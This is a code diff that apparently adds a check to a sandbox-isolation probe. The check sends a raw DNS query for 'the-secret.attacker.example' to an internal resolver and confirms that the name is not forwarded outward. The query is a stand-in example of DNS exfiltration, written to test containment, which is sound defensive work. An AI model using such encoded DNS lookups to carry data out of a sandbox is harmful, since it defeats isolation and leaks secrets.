@@ -136,6 +136,20 @@ def try_route(host):
         sock.connect((host, 53))
 
 
+GATE = "198.18.0.1"   # atoll's own resolver inside, which asks nobody
+
+
+def ask_gate():
+    """What the gate says to a name that carries something out: it must not know it."""
+    labels = b"".join(bytes([len(label)]) + label for label in (b"the-secret", b"attacker", b"example"))
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(3)
+        sock.connect((GATE, 53))
+        sock.send(b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1")
+        if sock.recv(512)[3] & 15 == 3:
+            raise OSError("no such name: the gate asks nobody about it")
+
+
 def try_dns():
     """A name looked up is a message sent. Is there a resolver that could be asked?"""
     resolvers = ["127.0.0.53"]
@@ -148,6 +162,8 @@ def try_dns():
                 sock.settimeout(2)
                 if sock.connect_ex((address, 53)) == 0:
                     return
+        elif address == GATE:
+            return ask_gate()
         else:
             try:
                 return try_route(address)
